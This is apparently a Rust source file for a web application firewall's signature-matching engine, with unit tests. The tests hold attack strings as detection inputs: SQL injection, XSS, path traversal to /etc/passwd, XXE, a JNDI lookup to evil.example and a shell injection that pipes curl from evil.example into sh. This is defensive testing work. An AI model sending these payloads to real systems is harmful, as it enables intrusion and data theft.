//! The compiled signature set and the scan of one value.
//!
//! Every rule is one `regex-automata` regex (lazy DFA) or one Aho-Corasick
//! phrase automaton: both run in time linear in the value whatever the
//! pattern. A value meets three stages, each only if the one before lets
//! it through:
//! 1. the gate of the value's kind (data, headers and path, query,
//!    method): the automata of every rule that inspects that kind compiled
//!    into one lazy DFA, one pass per distinct transformation output,
//!    answering "could anything match?" (benign values, punctuation and
//!    all, stop here);
//! 2. a prefilter derived from the rules themselves ([`crate::literals`]):
//!    the literals without which a rule cannot match, merged into one byte
//!    table and one Aho-Corasick automaton;
//! 3. the automata of the rules whose literals occur.
//!
//! Transformations run only when a byte profile of the value says they can
//! change it, and pipelines share their common steps.

use std::borrow::Cow;
use std::cell::RefCell;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind as AcMatchKind};
use regex_automata::hybrid::dfa::{Cache as LazyCache, DFA as LazyDfa};
use regex_automata::meta::{self, Regex};
use regex_automata::nfa::thompson;
use regex_automata::util::syntax;
use regex_automata::Input;

use crate::literals::{self, Required};
use crate::rules::{Condition, Pattern, RuleSpec, Targets};
use crate::transform::{self, Transform, TransformSet};

/// A compiled rule's metadata.
#[derive(Debug, Clone)]
pub struct Rule {
    /// The rule id.
    pub id: u32,
    /// Its family name.
    pub family: String,
    /// The paranoia level it belongs to.
    pub paranoia: u8,
    /// Its score.
    pub score: u32,
    /// What it inspects.
    pub targets: Targets,
    /// When a match counts.
    pub condition: Condition,
    /// One line for operators.
    pub description: String,
}

/// Matchers the prefilter tracks one by one; any matcher past them always
/// runs. A matcher's first literal clause has the matcher's own index.
const TRACKED: usize = 512;
/// Clause indices the prefilter tracks: further clauses of matchers take
/// the indices from [`TRACKED`] up (beyond this, they are not checked).
const CLAUSES: usize = 1024;

/// A set of matcher or clause indices below [`CLAUSES`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
struct Bits([u64; CLAUSES / 64]);

impl Bits {
    fn set(&mut self, i: usize) {
        if let Some(w) = self.0.get_mut(i / 64) {
            *w |= 1u64 << (i % 64);
        }
    }

    fn has(&self, i: usize) -> bool {
        self.0
            .get(i / 64)
            .is_some_and(|w| w & (1u64 << (i % 64)) != 0)
    }

    fn or(&mut self, other: &Bits) {
        for (a, b) in self.0.iter_mut().zip(other.0.iter()) {
            *a |= b;
        }
    }

    fn covers(&self, other: &Bits) -> bool {
        self.0.iter().zip(other.0.iter()).all(|(a, b)| a & b == *b)
    }

    fn and(&self, other: &Bits) -> Bits {
        let mut out = *self;
        for (a, b) in out.0.iter_mut().zip(other.0.iter()) {
            *a &= b;
        }
        out
    }

    /// The indices in the set, in order.
    fn iter(&self) -> impl Iterator<Item = usize> + '_ {
        self.0.iter().enumerate().flat_map(|(w, word)| {
            let mut word = *word;
            std::iter::from_fn(move || {
                if word == 0 {
                    return None;
                }
                let bit = word.trailing_zeros() as usize;
                word &= word - 1;
                Some(w * 64 + bit)
            })
        })
    }
}

/// The literals of every rule, merged: which rules may match a value.
#[derive(Debug)]
struct Prefilter {
    /// Byte value -> index into `byte_rules` (0: no rule needs it).
    byte_slot: Box<[u8; 256]>,
    byte_rules: Vec<Bits>,
    /// Literals of two bytes or more; `literal_rules[pattern]` are the
    /// rules a literal stands for.
    literals: Option<AhoCorasick>,
    literal_rules: Vec<Bits>,
    /// Rules with a literal of two bytes or more.
    with_literals: Bits,
    /// Rules without a usable literal: they always run.
    always: Bits,
    /// Per matcher, its further clauses (all must have fired too).
    further: Vec<Vec<usize>>,
}

impl Prefilter {
    fn build(required: &[Required]) -> Result<Self, String> {
        let mut byte_slot = Box::new([0u8; 256]);
        let mut byte_rules = vec![Bits::default()];
        let mut words: Vec<&[u8]> = Vec::new();
        let mut literal_rules: Vec<Bits> = Vec::new();
        let mut with_literals = Bits::default();
        let mut always = Bits::default();
        let mut further: Vec<Vec<usize>> = vec![Vec::new(); required.len()];
        let mut next_clause = TRACKED;
        for (unit, req) in required.iter().enumerate().take(TRACKED) {
            let Required::AllOf(clauses) = req else {
                always.set(unit);
                continue;
            };
            for (k, set) in clauses.iter().enumerate() {
                let clause = if k == 0 {
                    unit
                } else if next_clause < CLAUSES {
                    further[unit].push(next_clause);
                    next_clause += 1;
                    next_clause - 1
                } else {
                    break;
                };
                for lit in set {
                    if let [b] = lit.as_slice() {
                        for b in [b.to_ascii_lowercase(), b.to_ascii_uppercase()] {
                            let slot = &mut byte_slot[usize::from(b)];
                            if *slot == 0 {
                                // At most 256 distinct bytes; slot 0 is the empty set.
                                byte_rules.push(Bits::default());
                                *slot = u8::try_from(byte_rules.len() - 1).unwrap_or(u8::MAX);
                            }
                            if let Some(bits) = byte_rules.get_mut(usize::from(*slot)) {
                                bits.set(clause);
                            }
                        }
                    } else {
                        with_literals.set(clause);
                        match words.iter().position(|w| w.eq_ignore_ascii_case(lit)) {
                            Some(p) => literal_rules[p].set(clause),
                            None => {
                                words.push(lit);
                                let mut bits = Bits::default();
                                bits.set(clause);
                                literal_rules.push(bits);
                            }
                        }
                    }
                }
            }
        }
        if byte_rules.len() > 256 {
            return Err("too many prefilter bytes".into());
        }
        let literals = if words.is_empty() {
            None
        } else {
            Some(
                AhoCorasickBuilder::new()
                    .ascii_case_insensitive(true)
                    .kind(Some(AhoCorasickKind::DFA))
                    .match_kind(AcMatchKind::Standard)
                    .build(&words)
                    .map_err(|e| e.to_string())?,
            )
        };
        Ok(Prefilter {
            byte_slot,
            byte_rules,
            literals,
            literal_rules,
            with_literals,
            always,
            further,
        })
    }

    /// Whether every further clause of `unit` fired.
    fn complete(&self, unit: usize, fired: &Bits) -> bool {
        self.further
            .get(unit)
            .is_none_or(|cs| cs.iter().all(|c| fired.has(*c)))
    }

    /// The clauses that occur in `value` (a matcher may match only when its
    /// own index and its further clauses are all in the set).
    fn fired(&self, value: &[u8]) -> Bits {
        let mut fired = self.always;
        // Which byte slots occur, then their rules once each.
        let mut seen = [0u64; 4];
        for b in value {
            let slot = self.byte_slot[usize::from(*b)];
            seen[usize::from(slot / 64)] |= 1u64 << (slot % 64);
        }
        seen[0] &= !1;
        for (w, word) in seen.iter().enumerate() {
            let mut word = *word;
            while word != 0 {
                let bit = word.trailing_zeros() as usize;
                word &= word - 1;
                if let Some(bits) = self.byte_rules.get(w * 64 + bit) {
                    fired.or(bits);
                }
            }
        }
        if let Some(ac) = &self.literals {
            if !fired.covers(&self.with_literals) {
                for m in ac.find_overlapping_iter(value) {
                    if let Some(bits) = self.literal_rules.get(m.pattern().as_usize()) {
                        fired.or(bits);
                    }
                }
            }
        }
        fired
    }
}

#[derive(Debug)]
enum Matcher {
    Regex(Regex),
    Phrases {
        ac: AhoCorasick,
        /// Only outside longer words.
        word: bool,
    },
}

impl Matcher {
    fn matches(&self, hay: &[u8]) -> bool {
        match self {
            Matcher::Regex(re) => re.is_match(Input::new(hay)),
            Matcher::Phrases { ac, word: false } => ac.is_match(hay),
            Matcher::Phrases { ac, word: true } => ac
                .find_overlapping_iter(hay)
                .any(|m| at_word_boundaries(hay, m.start(), m.end())),
        }
    }
}

/// Distinct transformation steps (pipelines sharing their prefixes) the
/// rules may use: the built-in rules use 11. At most 32 (a bit each).
const MAX_STEPS: usize = 32;

/// The kinds of value that share a gate, and the memory each gate's lazy
/// DFA may use for its states (per VM). A value meets only the automata of
/// the rules that could inspect its kind: a header-only list (scanner
/// names) or the query-string rule does not make the gate of every argument
/// bigger and slower to build states for. Kinds are grouped where their
/// rules mostly coincide: each gate compiles its rules once more when the
/// configuration loads.
const GATE_GROUPS: [(Targets, usize); 4] = [
    // What a client sends as data: the values most often new to the gate.
    (
        Targets(
            Targets::ARGS.0
                | Targets::ARG_NAMES.0
                | Targets::COOKIES.0
                | Targets::COOKIE_NAMES.0
                | Targets::FILES.0
                | Targets::BODY.0,
        ),
        1 << 24,
    ),
    // Headers and the path, which repeat from request to request.
    (
        Targets(Targets::HEADERS.0 | Targets::OTHER_HEADERS.0 | Targets::PATH.0),
        1 << 23,
    ),
    (Targets::QUERY, 1 << 22),
    (Targets::METHOD, 1 << 20),
];

/// Every automaton of a group in one lazy DFA: one pass over a value tells
/// whether any of them could match it. Benign values, even those full of
/// punctuation (user agents, URLs, prose), answer no in that one pass, so
/// the per-rule automata and the literal prefilter only run on values that
/// look like an attack.
#[derive(Debug)]
struct Gate {
    dfa: LazyDfa,
    /// The DFA's states, built as values need them. The filter runs one
    /// request at a time per VM, so one cache serves them all.
    cache: RefCell<LazyCache>,
}

impl Gate {
    /// A gate over these patterns whose states may use `capacity(least)`
    /// bytes, `least` being the smallest cache the DFA accepts; `None` when
    /// there are no patterns.
    fn build(patterns: &[&str], capacity: impl Fn(usize) -> usize) -> Result<Option<Gate>, String> {
        if patterns.is_empty() {
            return Ok(None);
        }
        let nfa = thompson::Compiler::new()
            .syntax(syntax_config())
            .configure(
                thompson::Config::new()
                    .utf8(false)
                    .which_captures(thompson::WhichCaptures::None),
            )
            .build_many(patterns)
            .map_err(|e| e.to_string())?;
        let config = LazyDfa::config()
            // A value that makes a new state at nearly every byte
            // (crafted to) would cost a closure over every rule per
            // byte: past a few cache refills the gate gives up on
            // it and says "maybe", and the per-rule automata decide.
            .minimum_cache_clear_count(Some(3))
            .minimum_bytes_per_state(Some(10));
        let least = config
            .get_minimum_cache_capacity(&nfa)
            .map_err(|e| e.to_string())?;
        let dfa = LazyDfa::builder()
            .configure(config.cache_capacity(capacity(least)))
            .build_from_nfa(nfa)
            .map_err(|e| e.to_string())?;
        let cache = RefCell::new(dfa.create_cache());
        Ok(Some(Gate { dfa, cache }))
    }

    /// Whether any pattern may match `hay`. Says yes when it cannot tell
    /// (the DFA gave up), so a value is never waved through unseen.
    fn may_match(&self, hay: &[u8]) -> bool {
        let Ok(mut cache) = self.cache.try_borrow_mut() else {
            return true;
        };
        !matches!(
            self.dfa
                .try_search_fwd(&mut cache, &Input::new(hay).earliest(true)),
            Ok(None)
        )
    }
}

/// Whether `gate` lets `hay` through to the rules: `None` is a kind of
/// value no gate covers (every rule then runs through the prefilter);
/// `Some(None)`, one no rule inspects.
fn wakes(gate: Option<&Option<Gate>>, hay: &[u8]) -> bool {
    gate.is_none_or(|g| g.as_ref().is_some_and(|g| g.may_match(hay)))
}

/// One automaton: a whole rule, or one top-level branch of a rule's regex
/// (a rule matches when any of its branches does, and each branch has its
/// own literals, so a benign value rarely wakes a whole rule).
#[derive(Debug)]
struct Unit {
    rule: usize,
    matcher: Matcher,
}

/// Every enabled rule, compiled.
#[derive(Debug)]
pub struct RuleSet {
    rules: Vec<Rule>,
    units: Vec<Unit>,
    pipelines: Vec<Vec<Transform>>,
    /// Per pipeline, its units below [`TRACKED`].
    pipeline_units: Vec<Bits>,
    /// Per pipeline, its units past [`TRACKED`] (they always run).
    pipeline_untracked: Vec<Vec<usize>>,
    /// The targets any rule of a pipeline inspects.
    pipeline_targets: Vec<Targets>,
    /// Per target bit, the tracked units whose rule inspects it.
    target_units: [Bits; 16],
    /// Units with no usable literal (they run on every value).
    unfiltered: usize,
    prefilter: Prefilter,
    /// The pipelines as a tree of steps sharing their common prefixes
    /// (most pipelines start by decoding the same way): step `i` applies
    /// its transformation to the output of its parent step (`None`: the
    /// value as sent).
    steps: Vec<(Option<usize>, Transform)>,
    /// Per pipeline, its last step (`None` when it has no transformation).
    pipeline_step: Vec<Option<usize>>,
    /// Per [`GATE_GROUPS`] entry, a gate over the units whose rules
    /// inspect a kind of value of the group.
    gates: Vec<Option<Gate>>,
    /// Per target bit, the steps (a bit per step) its pipelines need and
    /// the transformations those use: a value computes only these.
    target_steps: [(u32, TransformSet); 16],
    /// Every kind of value some rule inspects.
    targets: Targets,
}

/// A rule that matched one value: rule index into [`RuleSet::rules`].
pub type RuleIndex = usize;

/// Decides, per rule, whether it may report a match on the current value
/// (route exclusions).
pub trait RuleFilter {
    /// Whether the family may run at all on this value.
    fn family_enabled(&self, family: &str) -> bool;
    /// Whether this rule may match this value.
    fn rule_enabled(&self, rule: &Rule) -> bool;
}

impl RuleSet {
    /// Compiles `specs`; an error gives the index of the rule at fault.
    pub fn compile(specs: &[RuleSpec]) -> Result<Self, (usize, String)> {
        Self::compile_with_gates(specs, |group, _| {
            GATE_GROUPS.get(group).map_or(0, |(_, capacity)| *capacity)
        })
    }

    /// [`RuleSet::compile`] with the cache capacity of gate `group` (an
    /// index into [`GATE_GROUPS`]) given by `gate_capacity(group, least)`,
    /// `least` being the smallest the gate accepts (tests use small caches).
    fn compile_with_gates(
        specs: &[RuleSpec],
        gate_capacity: impl Fn(usize, usize) -> usize,
    ) -> Result<Self, (usize, String)> {
        let mut rules = Vec::with_capacity(specs.len());
        let mut units: Vec<Unit> = Vec::with_capacity(specs.len());
        let mut pipelines: Vec<Vec<Transform>> = Vec::new();
        let mut pipeline_units: Vec<Bits> = Vec::new();
        let mut pipeline_untracked: Vec<Vec<usize>> = Vec::new();
        let mut pipeline_targets: Vec<Targets> = Vec::new();
        let mut required = Vec::with_capacity(specs.len());
        // Per unit, its pipeline and the pattern its gate matches.
        let mut gate_patterns: Vec<String> = Vec::with_capacity(specs.len());
        for (i, spec) in specs.iter().enumerate() {
            rules.push(Rule {
                id: spec.id,
                family: spec.family.clone(),
                paranoia: spec.paranoia,
                score: spec.score,
                targets: spec.targets,
                condition: spec.condition,
                description: spec.description.clone(),
            });
            // Every pattern is matched case-insensitively: lower-casing
            // first would change nothing but the cost.
            let transforms: Vec<Transform> = spec
                .transforms
                .iter()
                .copied()
                .filter(|t| *t != Transform::Lowercase)
                .collect();
            let pipeline = match pipelines.iter().position(|p| *p == transforms) {
                Some(p) => p,
                None => {
                    pipelines.push(transforms);
                    pipeline_targets.push(Targets::default());
                    pipeline_units.push(Bits::default());
                    pipeline_untracked.push(Vec::new());
                    pipelines.len() - 1
                }
            };
            pipeline_targets[pipeline] = pipeline_targets[pipeline].or(spec.targets);
            let mut add = |matcher: Matcher, req: Required, pattern: String| {
                let u = units.len();
                gate_patterns.push(pattern);
                units.push(Unit { rule: i, matcher });
                required.push(req);
                if u < TRACKED {
                    pipeline_units[pipeline].set(u);
                } else {
                    pipeline_untracked[pipeline].push(u);
                }
            };
            match &spec.pattern {
                Pattern::Regex(re) => {
                    let split = literals::branches(re).and_then(|sources| {
                        sources
                            .into_iter()
                            .map(|b| build_regex(b).ok().map(|r| (r, b)))
                            .collect::<Option<Vec<_>>>()
                    });
                    match split {
                        Some(branches) => {
                            for (regex, source) in branches {
                                add(
                                    Matcher::Regex(regex),
                                    literals::required(source),
                                    source.to_string(),
                                );
                            }
                        }
                        None => {
                            let whole = build_regex(re).map_err(|e| (i, e))?;
                            add(Matcher::Regex(whole), literals::required(re), re.clone());
                        }
                    }
                }
                Pattern::Phrases { list, word } => {
                    let ac = AhoCorasickBuilder::new()
                        .ascii_case_insensitive(true)
                        .match_kind(AcMatchKind::Standard)
                        .build(list)
                        .map_err(|e| (i, e.to_string()))?;
                    // The gate ignores word boundaries: it may only say yes
                    // more often than the rule.
                    let any_phrase = list
                        .iter()
                        .map(|p| regex_syntax::escape(p))
                        .collect::<Vec<_>>()
                        .join("|");
                    add(
                        Matcher::Phrases { ac, word: *word },
                        literals::phrases(list),
                        any_phrase,
                    );
                }
            }
        }
        let prefilter = Prefilter::build(&required).map_err(|e| (0, e))?;
        let gates = GATE_GROUPS
            .iter()
            .enumerate()
            .map(|(g, (group, _))| {
                let patterns: Vec<&str> = gate_patterns
                    .iter()
                    .zip(&units)
                    .filter(|(_, unit)| rules[unit.rule].targets.intersects(*group))
                    .map(|(p, _)| p.as_str())
                    .collect();
                Gate::build(&patterns, |least| gate_capacity(g, least))
            })
            .collect::<Result<Vec<_>, _>>()
            .map_err(|e| (0, e))?;
        let mut steps: Vec<(Option<usize>, Transform)> = Vec::new();
        let pipeline_step: Vec<Option<usize>> = pipelines
            .iter()
            .map(|pipeline| {
                pipeline.iter().fold(None, |parent, t| {
                    let step = (parent, *t);
                    Some(steps.iter().position(|s| *s == step).unwrap_or_else(|| {
                        steps.push(step);
                        steps.len() - 1
                    }))
                })
            })
            .collect();
        let mut target_units = [Bits::default(); 16];
        for (u, unit) in units.iter().enumerate().take(TRACKED) {
            let targets = rules[unit.rule].targets.0;
            for (bit, set) in target_units.iter_mut().enumerate() {
                if targets & (1 << bit) != 0 {
                    set.set(u);
                }
            }
        }
        let unfiltered = required
            .iter()
            .enumerate()
            .filter(|(i, r)| *i >= TRACKED || **r == Required::Nothing)
            .count();
        // Per target bit: the steps its pipelines need (each step's parents
        // included) and the transformations they use.
        let mut target_steps = [(0u32, TransformSet::default()); 16];
        for (p, pipeline) in pipelines.iter().enumerate() {
            let mut chain = 0u32;
            let mut step = pipeline_step[p];
            while let Some(i) = step {
                chain |= 1 << i;
                step = steps.get(i).and_then(|(parent, _)| *parent);
            }
            let transforms = TransformSet::of(pipeline);
            for (bit, plan) in target_steps.iter_mut().enumerate() {
                if pipeline_targets[p].0 & (1 << bit) != 0 {
                    plan.0 |= chain;
                    plan.1 = plan.1.or(transforms);
                }
            }
        }
        let targets = rules
            .iter()
            .fold(Targets::default(), |all, r| all.or(r.targets));
        Ok(RuleSet {
            target_steps,
            targets,
            rules,
            units,
            pipelines,
            pipeline_units,
            pipeline_untracked,
            pipeline_targets,
            target_units,
            unfiltered,
            prefilter,
            steps,
            pipeline_step,
            gates,
        })
    }

    /// The memory the gates' lazy DFAs use for the states built so far.
    pub fn gate_cache_bytes(&self) -> usize {
        self.gates
            .iter()
            .flatten()
            .map(|g| g.cache.borrow().memory_usage())
            .sum()
    }

    /// The gate of a kind of value (`None` when no group holds it alone).
    fn gate(&self, target: Targets) -> Option<&Option<Gate>> {
        GATE_GROUPS
            .iter()
            .position(|(group, _)| group.0 & target.0 == target.0)
            .and_then(|g| self.gates.get(g))
    }

    /// The compiled rules.
    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// How many distinct transformation pipelines the rules use.
    pub fn pipeline_count(&self) -> usize {
        self.pipelines.len()
    }

    /// How many automata the rules compiled to (a rule's top-level
    /// branches are separate automata).
    pub fn automaton_count(&self) -> usize {
        self.units.len()
    }

    /// How many automata have no literal for the prefilter (they run on
    /// every value).
    pub fn unfiltered_count(&self) -> usize {
        self.unfiltered
    }

    /// Scans one value of kind `target`; calls `found` with each rule index
    /// that matches (a rule at most once per value). `known`: the
    /// transformations that could change the value, when the caller already
    /// knows them ([`transform::applicable`]); worked out here otherwise.
    pub fn scan(
        &self,
        target: Targets,
        value: &str,
        known: Option<TransformSet>,
        filter: &dyn RuleFilter,
        found: &mut dyn FnMut(RuleIndex),
    ) {
        if value.is_empty() || !self.targets.intersects(target) {
            return;
        }
        let bytes = value.as_bytes();
        let may = known.unwrap_or_else(|| transform::applicable(bytes));
        // The tracked units whose rules inspect this kind of value; only
        // needed once a gate wakes.
        let wanted = || {
            let mut wanted = Bits::default();
            for (bit, set) in self.target_units.iter().enumerate() {
                if target.0 & (1 << bit) != 0 {
                    wanted.or(set);
                }
            }
            wanted
        };
        // Rules already reported for this value (allocated on a first match).
        let mut reported: Vec<usize> = Vec::new();
        let mut run = |units: &mut dyn Iterator<Item = usize>, hay: &[u8], fired: &Bits| {
            for u in units {
                if !self.prefilter.complete(u, fired) {
                    continue;
                }
                let Some(unit) = self.units.get(u) else {
                    continue;
                };
                let r = unit.rule;
                let Some(rule) = self.rules.get(r) else {
                    continue;
                };
                if reported.contains(&r)
                    || !rule.targets.intersects(target)
                    || !filter.family_enabled(&rule.family)
                    || !filter.rule_enabled(rule)
                {
                    continue;
                }
                if unit.matcher.matches(hay) {
                    reported.push(r);
                    found(r);
                }
            }
        };
        // A value is one kind of request part (one target bit), nearly always.
        let (needed, transforms) = if target.0.is_power_of_two() {
            self.target_steps[target.0.trailing_zeros() as usize % 16]
        } else {
            self.target_steps
                .iter()
                .enumerate()
                .filter(|(bit, _)| target.0 & (1 << bit) != 0)
                .fold((0u32, TransformSet::default()), |(n, t), (_, plan)| {
                    (n | plan.0, t.or(plan.1))
                })
        };
        // A value no pipeline of its kind changes is scanned once as sent,
        // for every pipeline at once.
        if may.disjoint(transforms) {
            if !wakes(self.gate(target), bytes) {
                return;
            }
            let fired = self.prefilter.fired(bytes);
            let candidates = fired.and(&wanted());
            let untracked = self.pipeline_untracked.iter().flatten().copied();
            run(&mut candidates.iter().chain(untracked), bytes, &fired);
            return;
        }
        // Each step's output: the step that produced the text (`None`: the
        // value as sent), and what may still change it.
        let mut outputs: [(Option<usize>, TransformSet); MAX_STEPS] =
            [(None, TransformSet::default()); MAX_STEPS];
        let mut texts: [Option<String>; MAX_STEPS] = [const { None }; MAX_STEPS];
        for (i, (parent, t)) in self.steps.iter().enumerate().take(MAX_STEPS) {
            if needed & (1 << i) == 0 {
                continue;
            }
            let (source, parent_may) = parent.map_or((None, may), |p| outputs[p]);
            let text = source
                .and_then(|s: usize| texts[s].as_deref())
                .unwrap_or(value);
            outputs[i] = (source, parent_may);
            if parent_may.has(*t) {
                if let Cow::Owned(changed) = transform::apply_one(text, *t) {
                    outputs[i] = (Some(i), transform::applicable(changed.as_bytes()));
                    texts[i] = Some(changed);
                }
            }
        }
        // Whether each distinct text wakes the gate, asked once per text
        // (slot 0: the value as sent).
        let mut woken = [None; MAX_STEPS + 1];
        let gate = self.gate(target);
        for (p, step) in self.pipeline_step.iter().enumerate() {
            if !self.pipeline_targets[p].intersects(target) {
                continue;
            }
            let source = step.and_then(|s| outputs[s].0);
            let hay = source
                .and_then(|s| texts[s].as_deref())
                .unwrap_or(value)
                .as_bytes();
            let slot = source.map_or(0, |s| s + 1);
            if !*woken[slot].get_or_insert_with(|| wakes(gate, hay)) {
                continue;
            }
            let fired = self.prefilter.fired(hay);
            let candidates = fired.and(&wanted()).and(&self.pipeline_units[p]);
            let untracked = self.pipeline_untracked[p].iter().copied();
            run(&mut candidates.iter().chain(untracked), hay, &fired);
        }
    }
}

fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Whether a phrase found at `start..end` is not part of a longer word: a
/// boundary is checked at an end of the phrase that is a word byte (as
/// `\b` does), so `@@version` and `db_name(` may follow or precede anything.
fn at_word_boundaries(hay: &[u8], start: usize, end: usize) -> bool {
    let edge = |i: usize| hay.get(i).copied().is_some_and(is_word_byte);
    let before = start == 0 || !edge(start) || !edge(start - 1);
    let after = end >= hay.len() || end == start || !edge(end - 1) || !edge(end);
    before && after
}

/// Builds one rule's regex. Patterns are byte-oriented (Unicode off, so
/// `\b`, `\w` and `\s` are ASCII and the lazy DFA handles every pattern),
/// case-insensitive and `.` matches newlines.
fn build_regex(pattern: &str) -> Result<Regex, String> {
    Regex::builder()
        .configure(
            meta::Config::new()
                .utf8_empty(false)
                .hybrid_cache_capacity(1 << 18)
                .auto_prefilter(false),
        )
        .syntax(syntax_config())
        .build(pattern)
        .map_err(|e| e.to_string())
}

/// How every pattern is read (rules and gates alike).
fn syntax_config() -> syntax::Config {
    syntax::Config::new()
        .unicode(false)
        .utf8(false)
        .case_insensitive(true)
        .dot_matches_new_line(true)
}

#[cfg(test)]
mod tests {
    use super::*;

    struct All;
    impl RuleFilter for All {
        fn family_enabled(&self, _: &str) -> bool {
            true
        }
        fn rule_enabled(&self, _: &Rule) -> bool {
            true
        }
    }

    fn spec(id: u32, family: &str, pattern: Pattern) -> RuleSpec {
        RuleSpec {
            id,
            family: family.into(),
            paranoia: 1,
            score: 5,
            targets: Targets::ARGS,
            transforms: vec![Transform::UrlDecode, Transform::Lowercase],
            pattern,
            condition: Condition::Always,
            description: String::new(),
        }
    }

    /// What the scan must find: every rule run on every one of its
    /// pipeline's outputs, no gate, no prefilter.
    fn brute_force(set: &RuleSet, target: Targets, value: &str) -> Vec<u32> {
        let mut out: Vec<u32> = Vec::new();
        for (p, pipeline) in set.pipelines.iter().enumerate() {
            let v = transform::apply(value, pipeline);
            for unit in &set.units {
                let rule = &set.rules[unit.rule];
                let in_pipeline = set.pipeline_step[p] == rule_pipeline_step(set, unit.rule)
                    && rule.targets.intersects(target);
                if in_pipeline && unit.matcher.matches(v.as_bytes()) && !out.contains(&rule.id) {
                    out.push(rule.id);
                }
            }
        }
        out.sort_unstable();
        out
    }

    /// The last step of the pipeline of rule `r` (found through its units).
    fn rule_pipeline_step(set: &RuleSet, r: usize) -> Option<usize> {
        let u = set.units.iter().position(|u| u.rule == r).unwrap();
        let p = (0..set.pipelines.len())
            .find(|p| set.pipeline_units[*p].has(u) || set.pipeline_untracked[*p].contains(&u))
            .unwrap();
        set.pipeline_step[p]
    }

    #[test]
    fn the_gate_and_prefilter_never_hide_a_match() {
        let set = RuleSet::compile(&crate::signatures::builtin(4)).unwrap();
        let values = [
            "shoes",
            "o'reilly trail runner",
            "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
            "https://shop.example.com/search?q=shoes",
            "1' OR '1'='1",
            "1%27%20UNION%2F**%2FSELECT%20password%20FROM%20users--",
            "un/**/ion sel/**/ect 1,2",
            "<script>alert(1)</script>",
            "&lt;img src=x onerror=alert(1)&gt;",
            "\\u003csvg onload=alert(1)\\u003e",
            "; c'a't /e't'c/pa's'swd",
            "$(curl${IFS}http://evil.example/x|sh)",
            "..%2f..%2f..%2fetc%2fpasswd",
            "/var/www/../../etc/./passwd",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "{\"$where\": \"sleep(1000)\"}",
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
            "php://filter/convert.base64-encode/resource=index.php",
            "select the best option from the drop-down",
            "a\r\nSet-Cookie: x=y",
            "\u{0}%00admin",
        ];
        let targets = [
            Targets::ARGS,
            Targets::PATH,
            Targets::HEADERS,
            Targets::OTHER_HEADERS,
            Targets::QUERY,
            Targets::BODY,
        ];
        let mut attacks = 0;
        for value in values {
            for target in targets {
                let want = brute_force(&set, target, value);
                attacks += usize::from(target == Targets::ARGS && !want.is_empty());
                assert_eq!(ids(&set, target, value), want, "{value:?} as {target:?}");
            }
        }
        // The comparison means something: most of these values are attacks.
        assert!(attacks >= 15, "{attacks}");
    }

    fn ids(set: &RuleSet, target: Targets, value: &str) -> Vec<u32> {
        let mut out = Vec::new();
        set.scan(target, value, None, &All, &mut |r| {
            out.push(set.rules()[r].id)
        });
        out.sort_unstable();
        out
    }

    #[test]
    fn every_matching_rule_is_reported_once() {
        let set = RuleSet::compile(&[
            spec(1, "a", Pattern::Regex("union\\s+select".into())),
            spec(2, "a", Pattern::Regex("select".into())),
            spec(
                3,
                "b",
                Pattern::Phrases {
                    list: vec!["cat".into(), "dog".into()],
                    word: true,
                },
            ),
            spec(
                4,
                "b",
                Pattern::Phrases {
                    list: vec!["dog".into()],
                    word: false,
                },
            ),
        ])
        .unwrap();
        assert_eq!(
            ids(&set, Targets::ARGS, "1 UNION%20SELECT select"),
            vec![1, 2]
        );
        assert_eq!(ids(&set, Targets::ARGS, "a cat and a dog"), vec![3, 4]);
        assert_eq!(ids(&set, Targets::ARGS, "concatenate hotdogs"), vec![4]);
        assert_eq!(ids(&set, Targets::PATH, "union select"), Vec::<u32>::new());
    }

    #[test]
    fn the_prefilter_only_skips_rules_that_cannot_match() {
        let set = RuleSet::compile(&[
            spec(1, "a", Pattern::Regex("x<".into())),
            spec(2, "a", Pattern::Regex("\\bneedle\\d".into())),
            spec(3, "a", Pattern::Regex("\\w+".into())),
        ])
        .unwrap();
        assert_eq!(set.unfiltered_count(), 1);
        assert_eq!(ids(&set, Targets::ARGS, "xxx"), vec![3]);
        assert_eq!(ids(&set, Targets::ARGS, "x%3C"), vec![1, 3]);
        assert_eq!(ids(&set, Targets::ARGS, "x NEEDLE7"), vec![2, 3]);
        assert_eq!(ids(&set, Targets::ARGS, "--"), Vec::<u32>::new());
    }

    /// Ever-new values built from pieces of attack literals, each piece
    /// cut short and glued with punctuation: nearly every byte moves the
    /// data gate's lazy DFA to a state it has not built yet.
    struct Crafted(u32);

    impl Crafted {
        const PIECES: [&'static str; 18] = [
            "union all select",
            "<script>",
            "javascript:",
            " onerror=",
            "../../",
            "${jndi:ldap:",
            "/etc/passwd",
            "sleep(",
            "' or '1'='1",
            "eval(",
            "<!entity ",
            "php://filter",
            "{{7*7}}",
            "$where",
            "; cat ",
            "%00",
            "@@version",
            "benchmark(",
        ];
        const GLUE: &'static [u8] = b" '\"();<>/=-_*.,|&$`~";

        /// xorshift32: the same values on every platform.
        fn next(&mut self) -> u32 {
            self.0 ^= self.0 << 13;
            self.0 ^= self.0 >> 17;
            self.0 ^= self.0 << 5;
            self.0
        }

        fn below(&mut self, n: usize) -> usize {
            self.next() as usize % n
        }

        fn value(&mut self) -> String {
            let mut out = String::new();
            for _ in 0..24 {
                let piece = Self::PIECES[self.below(Self::PIECES.len())];
                let cut = 1 + self.below(piece.len());
                out.push_str(&piece[..cut]);
                out.push(char::from(Self::GLUE[self.below(Self::GLUE.len())]));
            }
            out
        }
    }

    #[test]
    fn a_gate_cache_stays_within_its_capacity_under_crafted_values() {
        // Small caches (128 KiB over the least each gate accepts), so that
        // a few dozen crafted values fill one.
        let set = RuleSet::compile_with_gates(&crate::signatures::builtin(4), |_, least| {
            least + (1 << 17)
        })
        .unwrap();
        let data = set.gates[0].as_ref().unwrap();
        // regex-automata keeps the states within the capacity; the buffers
        // that build one state grow after that check, by at most what the
        // least cache already holds for them.
        let within_bound = |when: &str| {
            for gate in set.gates.iter().flatten() {
                let used = gate.cache.borrow().memory_usage();
                let config = gate.dfa.get_config();
                let least = config.get_minimum_cache_capacity(gate.dfa.get_nfa());
                let bound = config.get_cache_capacity() + least.unwrap();
                assert!(used <= bound, "{when}: {used} > {bound}");
            }
        };
